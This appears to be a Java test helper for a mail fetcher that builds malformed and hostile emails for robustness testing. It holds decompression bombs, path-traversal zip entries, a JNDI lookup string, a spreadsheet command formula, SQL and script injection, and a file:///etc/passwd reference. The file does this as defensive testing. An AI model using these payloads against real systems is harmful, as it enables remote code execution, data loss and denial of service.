// SPDX-License-Identifier: Apache-2.0
package org.mailwarden.fetcher.message;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Makes hostile mails of every class we know of; the same ones for the same seed. */
final class HostileMails {

    private static final String TYPE = "Content-Type: ";
    private static final String BOUNDED = TYPE + "multipart/mixed; boundary=b\n\n";
    private static final String FILE = "Content-Disposition: attachment; filename=a\nContent-Transfer-Encoding: ";
    private static final List<String> MARKUP = List.of(
            "=cmd|' /C calc'!A0",
            "<script>alert(1)</script>",
            "\u001b[31mred\u001b[0m",
            "x\r\n2026-11-01 INFO signed in",
            "${jndi:ldap://192.0.2.1/a}",
            "'; drop table account; --");
    private static final List<String> CHARSETS = List.of(
            "utf-7",
            "iso-2022-jp",
            "no-such-charset",
            "x".repeat(10_000),
            "",
            "\u0000",
            "utf-16",
            "utf-32",
            "../../etc");

    private final List<HostileMail> all = new ArrayList<>();
    private final Random random;

    private HostileMails(long seed) {
        this.random = new Random(seed);
    }

    static List<HostileMail> all(long seed) {
        HostileMails mails = new HostileMails(seed);
        mails.nesting();
        mails.parts();
        mails.headers();
        mails.addresses();
        mails.encodedWords();
        mails.boundaries();
        mails.shapeless();
        mails.encodings();
        mails.charsets();
        mails.messages();
        mails.dates();
        mails.texts();
        mails.traces();
        mails.bombs();
        mails.large();
        mails.mutations();
        return mails.all;
    }

    private HostileMail mail(String name) {
        HostileMail mail = new HostileMail(name);
        all.add(mail);
        return mail;
    }

    private void nesting() {
        for (int depth : new int[] {10, 31, 32, 33, 100, 1_000, 10_000}) {
            mail("message in message " + depth).add(TYPE + "message/rfc822\n\n", depth);
            mail("multipart in multipart " + depth).add(BOUNDED + "--b\n", depth);
            HostileMail boundaries = mail("own boundary at each depth " + depth);
            for (int i = 0; i < depth; i++) {
                boundaries.add(TYPE + "multipart/mixed; boundary=b" + i + "\n\n--b" + i + "\n");
            }
        }
    }

    private void parts() {
        for (int parts : new int[] {10, 100, 999, 1_000, 1_001, 10_000, 200_000}) {
            mail("empty parts " + parts).add(BOUNDED).add("--b\n\n\n", parts);
            mail("attached parts " + parts).add(BOUNDED).add("--b\n" + FILE + "base64\n\nQUJD\n", parts);
        }
    }

    private void headers() {
        for (int fields : new int[] {1_000, 2_000, 2_001, 10_000, 1_000_000}) {
            mail("fields " + fields).add("X-A: b\n", fields).add("\nbody");
            mail("folded fields " + fields).add("X-A:\n b\n\t\n c\n", fields).add("\nbody");
            mail("content types " + fields).add(TYPE + "text/plain; charset=a; name=b\n", fields);
        }
        for (String value : List.of("a", "\"a\"", "\"", "(a)b", "=?no-such?Q?a?=", "\"=?no-such?Q?a?= \"")) {
            mail("parameters with the value " + value)
                    .add(TYPE + "multipart/mixed; boundary=b")
                    .add("; name=" + value, 1_040_000 / (value.length() + 7))
                    .add("\n\n--b\n")
                    .add("Content-Disposition: a; filename=" + value + "\n\n--b\n", 900);
        }
        mail("Subject over lines").add("Subject: x").add("\n yz", 300_000).add("\n\nbody");
        for (int length : new int[] {1_000, 100_000, 1_048_570, 1_048_600, 20_000_000}) {
            for (String name : List.of("Subject", "X-Long", "To", "Received", "Content-Type", "Message-ID")) {
                mail(name + " of " + length).add(name + ": ").add("a", length).add("\nFrom: a@b.example\n\nbody");
            }
        }
    }

    private void addresses() {
        for (int count : new int[] {100, 1_999, 2_001, 20_000, 200_000}) {
            for (String name : List.of("To", "Cc", "From", "Reply-To")) {
                mail(count + " addresses in " + name)
                        .add(name + ": ")
                        .add("a@b.example,\n ", count)
                        .add("c@d\n\nx");
            }
            mail(count + " address headers")
                    .add("To: \"a, b\" <a@b.example>, c@d.example\n", count)
                    .add("\nx");
        }
        for (String piece : List.of("(", "\"", "<", ":;", "a:", "\\", "=?utf-8?Q?", "@", "<a@b>(", "[")) {
            mail("address pieces " + piece).add("From: ").add(piece, 100_000).add("\n\nx");
        }
    }

    private void encodedWords() {
        for (int count : new int[] {100, 1_000, 200_000}) {
            for (String word : List.of(
                    "=?utf-8?Q?=C3=BC?= ",
                    "=?utf-8?Q?=C3",
                    "=?utf-8?Q?=?utf-8?Q?=?=?=",
                    "=?no-such?B?AAAA?= ",
                    "=?utf-8?B?////?=",
                    "=?utf-7?Q?+ADw-?=")) {
                mail(count + " times " + word).add("Subject: ").add(word, count).add("\n\nx");
            }
        }
        for (int count : new int[] {10, 1_000, 10_000}) {
            for (String form : List.of("filename*%d=x", "filename*%d*=utf-8''%%C3", "name*%d=\"y\"", "filename*0=%d")) {
                HostileMail mail = mail(count + " pieces " + form).add("Content-Disposition: attachment");
                for (int i = count; i > 0; i--) {
                    mail.add(";\n " + form.formatted(i - 1));
                }
                mail.add("\n\nx");
            }
        }
    }

    private void boundaries() {
        for (String boundary : List.of("", ";", "; boundary", "; boundary=", "; boundary=\"\"", "; boundary=\" \"")) {
            mail("boundary '" + boundary + "'").add(TYPE + "multipart/mixed" + boundary + "\n\n--\n\nx\n----\n");
        }
        for (int length : new int[] {70, 71, 10_000, 1_000_000}) {
            String boundary = "b".repeat(length);
            mail("boundary of " + length)
                    .add(TYPE + "multipart/mixed; boundary=" + boundary + "\n\n--" + boundary + "\n\nx\n--" + boundary);
        }
        for (String piece : List.of("-", "a--", "abc--", "abcdefgh--")) {
            mail("boundary that the body almost is, of " + piece)
                    .add(TYPE + "multipart/mixed; boundary=\"")
                    .add(piece, 15_000 / piece.length())
                    .add("x\"\n\n")
                    .add(piece, 20_000_000 / piece.length());
        }
        // Of the low bytes, which are all that the library compares, each is a dash.
        HostileMail dashes = mail("boundary of dashes and their doubles").add(TYPE + "multipart/mixed; boundary=\"");
        for (int i = 0; i < 5_000; i++) {
            dashes.add(random.nextBoolean() ? "-" : "\u012d");
        }
        dashes.add("x\"\n\n").add("-", 20_000_000);
        mail("boundary in pieces").add(TYPE + "multipart/mixed; boundary*0=a; boundary*1=b\n\n--ab\n\nx\n--ab--");
        mail("boundary twice").add(TYPE + "multipart/mixed; boundary=a; boundary=b\n\n--a\n\nx\n--b\n\ny\n--a--");
        mail("boundary never closed").add(BOUNDED + "--b\n\n").add("line\n", 100_000);
        mail("almost the boundary").add(BOUNDED).add("--", 500_000).add("\n--b--");
        mail("boundary prefixes").add(BOUNDED).add("\n--bb", 100_000);
    }

    private void shapeless() {
        for (String unit :
                List.of("", "\r", "\n", "\r\n", "\0", " ", "\t", ":", "a", "\u00ff", "\uFEFF", "From x\n", "=")) {
            for (int times : new int[] {1, 3, 200_000}) {
                mail(times + " times " + escaped(unit)).add(unit, times);
            }
        }
        for (String first : List.of(" ", "\t", "\r ", "\n ", "\r\n\t", " :", "\t\r\0\t\r\n8\r\t\r\n98\r\t")) {
            mail("starts folded " + escaped(first)).add(first + "Subject: x\n y\nFrom: a@b.example\n\nbody");
        }
    }

    private void encodings() {
        for (String encoding :
                List.of("7-bit", "", "text/html", "base64;", "x-uuencode", "base64", "quoted-printable")) {
            for (String content :
                    List.of("!!!!", "QUI", "====", "=\n=\n=", "=ZZ=4", "begin 644 x\nM", "M\nM", "\0\0")) {
                mail("content " + encoding + " " + escaped(content))
                        .add(FILE + encoding + "\n\n")
                        .add(content, 5_000);
            }
            mail("blanks as " + encoding)
                    .add(FILE + encoding + "\n\n")
                    .add(" ", 20_000_000)
                    .add("x");
        }
    }

    private void charsets() {
        for (String charset : CHARSETS) {
            String shown = escaped(charset.length() > 20 ? "long" : charset);
            mail("part in " + shown)
                    .add(TYPE + "text/plain; charset=" + charset + "\n\n")
                    .add("\u001b$B", 10_000);
            mail("subject in " + shown)
                    .add("Subject: ")
                    .add("=?" + charset + "?B?GyRCGyhC?= ", 300)
                    .add("\n\nx");
            mail("name in " + shown).add("Content-Disposition: attachment; filename*=" + charset + "''%1b%24B\n\nx");
        }
    }

    private void messages() {
        mail("a thousand messages").add(BOUNDED).add("--b\n" + TYPE + "message/rfc822\n\nSubject: x\n\ny\n", 1_000);
        for (String type : List.of(
                "message/external-body; access-type=URL; URL=\"file:///etc/passwd\"",
                "message/partial; id=a; number=1; total=1000000000",
                "message/delivery-status",
                "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m",
                "application/ms-tnef; name=winmail.dat",
                "multipart/signed; protocol=x; boundary=b",
                "multipart/digest; boundary=b",
                "text/plain/plain; ;;; =; name",
                "/",
                "a/b/c",
                "*/*",
                "x".repeat(500) + "/y")) {
            mail("type " + (type.length() > 60 ? "long" : type))
                    .add(TYPE + type + "\n\n--b\n\n")
                    .add("x\n", 100);
        }
        mail("encoded message").add(TYPE + "message/rfc822\nContent-Transfer-Encoding: base64\n\nU3ViamVjdDogeAoKeQo=");
        mail("two types").add(TYPE + "text/plain\n" + TYPE + "multipart/mixed; boundary=b\n\n--b\n\nx\n--b--");
        mail("bad disposition").add("Content-Disposition: ;;filename=;attachment\nReferences: <<>>\n\n");
    }

    private void dates() {
        for (String date : List.of(
                "Sat, 1 Jan 0000 00:00:00 +0000",
                "1 Jan 99999999 00:00:00 +0000",
                "1 Jan 2999 00:00:00 +0000",
                "31 Feb 2026 10:00:00 +9999",
                "-1 Jan 2026 -1:00:00",
                "1 Jan 2026 99:99:99 +0000",
                "9".repeat(100_000),
                "Mon, ".repeat(50_000),
                "")) {
            mail("date " + (date.length() > 40 ? date.length() : date)).add("Date: " + date + "\nSubject: x\n\ny");
        }
        for (String id : List.of("", "<", "<>", "<a><b>", "a b", "<\u202E@x>", "<" + "i".repeat(10_000_000) + ">")) {
            mail("id " + (id.length() > 10 ? id.length() : escaped(id)))
                    .add("Message-ID: " + id + "\nMessage-ID: <2>\n\n");
        }
    }

    private void texts() {
        List<String> texts = new ArrayList<>(MARKUP);
        texts.addAll(
                List.of("\u202Egnp.exe", "pay\u200Bpal", "\u0430dmin", "\u2028x\u2029y", "\u760D\u760Ax", "\uD83D"));
        for (String text : texts) {
            for (String name : List.of("Subject", "From", "List-Id", "To")) {
                mail(name + " " + escaped(text)).add(name + ": \"" + text + "\" <" + text + "@x.example>\n\nx");
                mail(name + " encoded " + escaped(text))
                        .add(name + ": =?utf-8?B?"
                                + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8))
                                + "?= <a@x.example>\n\nx");
            }
            mail("file " + escaped(text)).add("Content-Disposition: attachment; filename=\"" + text + "\"\n\nx");
        }
    }

    private void traces() {
        for (int hops : new int[] {100, 101, 1_900, 10_000}) {
            for (String client : List.of("10.0.0.1", "999.1.1.1", "IPv6:::", "1.2.3.4.5", "fe80::1%eth0", "0x7f.1")) {
                mail(hops + " hops of " + client)
                        .add("Received: from x (y [" + client + "]) by z; Thu, 1 Jan 1970 00:00:00\n", hops)
                        .add("\nx");
            }
        }
        mail("received of brackets").add("Received: from ").add("([{(", 3_000).add("\n\nx");
        mail("results of separators")
                .add("Authentication-Results: x; ")
                .add("a=b;=", 3_000)
                .add("\n\nx");
    }

    private void bombs() {
        String zeros = Base64.getMimeEncoder().encodeToString(gzip(new byte[10_000_000]));
        mail("gzip of zeros").add(FILE + "base64\n\n" + zeros);
        mail("gzip of gzip")
                .add(FILE + "base64\n\n" + Base64.getMimeEncoder().encodeToString(gzip(gzip(new byte[9_000_000]))));
        mail("zip of zeros").add(FILE + "base64\n\n" + Base64.getMimeEncoder().encodeToString(zip(10, 1_000_000)));
        mail("zip of many").add(FILE + "base64\n\n" + Base64.getMimeEncoder().encodeToString(zip(5_000, 1)));
    }

    private void large() {
        mail("150 MB of lines")
                .add("Subject: x\n\n")
                .add("line of text, seventy characters long, again and again and again\n", 2_400_000);
        mail("150 MB in one line").add("Subject: x\n\n").add("x".repeat(1_000), 150_000);
        mail("150 MB attached").add(FILE + "base64\n\n").add("QUJD".repeat(19) + "\n", 2_000_000);
    }

    /** A plain mail with bytes changed, doubled and taken away. */
    private void mutations() {
        byte[] base =
                ("Received: from a (b [192.0.2.1]) by c; Mon, 2 Nov 2026 10:00:00 +0000\r\nFrom: \"A, B\" <a@b.example>\r\n"
                                + "To: c@d.example (x), e: f@g.example;\r\nSubject: =?utf-8?Q?=C3=BC?= x\r\nDate: Mon, 2 Nov 2026 10:00:00"
                                + " +0000\r\n" + BOUNDED + "--b\r\n" + FILE
                                + "quoted-printable\r\n\r\n=41=\r\n--b\r\n\r\nx\r\n--b--\r\n")
                        .getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 60; i++) {
            byte[] changed = base.clone();
            for (int n = 0; n <= i / 4; n++) {
                changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
            }
            mail("mutation " + i).add(changed, 1 + i % 3);
        }
    }

    private static String escaped(String text) {
        StringBuilder shown = new StringBuilder();
        text.chars().limit(30).forEach(c -> shown.append(c > ' ' && c < 127 ? "" + (char) c : "\\" + c));
        return shown.toString();
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] zip(int entries, int size) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (int i = 0; i < entries; i++) {
                ZipEntry entry = new ZipEntry("../../" + i);
                entry.setTime(0);
                out.putNextEntry(entry);
                out.write(new byte[size]);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
